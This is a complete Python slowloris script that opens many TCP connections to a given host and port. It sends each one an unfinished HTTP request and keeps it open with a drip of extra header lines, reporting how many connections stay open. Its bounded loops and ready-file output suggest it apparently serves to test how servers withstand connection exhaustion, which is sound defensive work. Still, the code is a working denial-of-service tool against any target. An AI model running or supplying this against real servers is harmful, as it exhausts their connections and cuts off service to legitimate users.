#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""Half-open HTTP connections (slowloris): opens up to N TCP connections to
HOST:PORT, sends each an unfinished request ("GET /x HTTP/1.1\\r\\nHost: a\\r\\n"),
then one more header line per connection every few seconds, for SECONDS.

  slowloris.py HOST PORT N SECONDS [READY_FILE]

Prints how many connections were open at the end ("open N refused M"); writes
READY_FILE once the connections are open.  Stops at N, at SECONDS, or when
killed; every loop is bounded.
"""
import os
import socket
import sys
import time


def main():
    host, port, n, secs = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
    ready = sys.argv[5] if len(sys.argv) > 5 else None
    end = time.monotonic() + secs
    socks, refused = [], 0
    for _ in range(n):
        if time.monotonic() >= end:
            break
        s = socket.socket()
        s.settimeout(1.0)
        try:
            s.connect((host, port))
            s.sendall(b"GET /x HTTP/1.1\r\nHost: a\r\n")
            socks.append(s)
        except OSError:
            refused += 1
            s.close()
    if ready:
        with open(ready + ".tmp", "w") as f:
            f.write("%d %d\n" % (len(socks), refused))
        os.rename(ready + ".tmp", ready)
    i = 0
    while time.monotonic() < end and socks:
        time.sleep(min(2.0, max(0.0, end - time.monotonic())))
        alive = []
        for s in socks:
            try:
                s.sendall(b"X-a%d: b\r\n" % i)
                alive.append(s)
            except OSError:
                s.close()
        socks = alive
        i += 1
    print("open %d refused %d" % (len(socks), refused), flush=True)


if __name__ == "__main__":
    main()
